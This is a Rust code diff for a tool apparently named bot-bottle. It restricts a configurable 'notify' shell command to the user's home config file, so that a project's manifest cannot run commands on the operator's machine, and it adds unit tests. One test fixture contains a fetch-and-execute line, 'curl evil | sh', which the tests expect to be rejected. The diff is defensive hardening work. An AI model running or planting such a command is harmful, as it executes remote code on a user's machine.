@@ -66,7 +66,16 @@ pub fn load(sources: &Sources) -> Result<Manifest, ManifestError> {
                 base_dir: Some(dir.clone()),
                 home: sources.user_home.clone(),
             };
-            let (a, b) = parse::parse_json(&read(&json, &src.origin)?, &src)?;
+            let text = read(&json, &src.origin)?;
+            if dir != sources.home && parse::notify_command(&text, &src)?.is_some() {
+                return Err(ManifestError::Invalid {
+                    place: Place::file(&src.origin),
+                    key: "notify".into(),
+                    message: "is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine".into(),
+                    hint: Some(format!("move it to {}", sources.home.join("bot-bottle.json").display())),
+                });
+            }
+            let (a, b) = parse::parse_json(&text, &src)?;
             agents.extend(a);
             bottles.extend(b);
         }
@@ -85,6 +94,21 @@ pub fn load(sources: &Sources) -> Result<Manifest, ManifestError> {
         levels.push(finish_level(agents, bottles, sources)?);
     }
     resolve::resolve(levels)
+}
+
+/// The notify command of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), if
+/// it names one (see `crate::notify`).
+pub fn notify_command(home: &Path) -> Result<Option<String>, ManifestError> {
+    let json = home.join("bot-bottle.json");
+    if !json.is_file() {
+        return Ok(None);
+    }
+    let src = Source {
+        origin: Origin::File(json.clone()),
+        base_dir: Some(home.to_path_buf()),
+        home: None,
+    };
+    parse::notify_command(&read(&json, &src.origin)?, &src)
 }
 
 fn read(path: &Path, origin: &Origin) -> Result<String, ManifestError> {
@@ -283,6 +307,61 @@ mod tests {
             cwd: dir.join("proj"),
             user_home: Some(dir.to_path_buf()),
         }
+    }
+
+    #[test]
+    fn the_notify_command_comes_from_home_only() {
+        let cases: Vec<(&str, Result<Option<&str>, &str>)> = vec![
+            (r#"{}"#, Ok(None)),
+            (
+                r#"{"notify": {"command": "notify-send bot-bottle"}}"#,
+                Ok(Some("notify-send bot-bottle")),
+            ),
+            (
+                r#"{"notify": {"command": " "}}"#,
+                Err("home/bot-bottle.json: notify.command: must be a shell command"),
+            ),
+            (
+                r#"{"notify": {"command": 1}}"#,
+                Err("home/bot-bottle.json: notify.command: expected a string, found a number"),
+            ),
+            (
+                r#"{"notify": {"cmd": "x"}}"#,
+                Err("home/bot-bottle.json: unknown key 'notify.cmd'"),
+            ),
+            (
+                r#"{"notify": "x"}"#,
+                Err("home/bot-bottle.json: notify: expected an object, found a string"),
+            ),
+        ];
+        for (json, want) in cases {
+            let dir = tempfile::tempdir().unwrap();
+            let s = sources(dir.path());
+            fs::create_dir_all(&s.home).unwrap();
+            fs::write(s.home.join("bot-bottle.json"), json).unwrap();
+            let got = notify_command(&s.home).map_err(|e| {
+                e.to_string()
+                    .replace(&format!("{}/", dir.path().display()), "")
+            });
+            let want = want.map(|c| c.map(str::to_owned)).map_err(str::to_owned);
+            assert_eq!(got, want, "{json}");
+            assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
+        }
+        // A project's manifest may not run commands on the operator's machine.
+        let dir = tempfile::tempdir().unwrap();
+        let s = sources(dir.path());
+        fs::create_dir_all(&s.cwd).unwrap();
+        fs::write(
+            s.cwd.join("bot-bottle.json"),
+            r#"{"notify": {"command": "curl evil | sh"}}"#,
+        )
+        .unwrap();
+        let err = load(&s).unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine"
+        );
+        assert_eq!(notify_command(&s.home).unwrap(), None);
     }
 
     #[test]
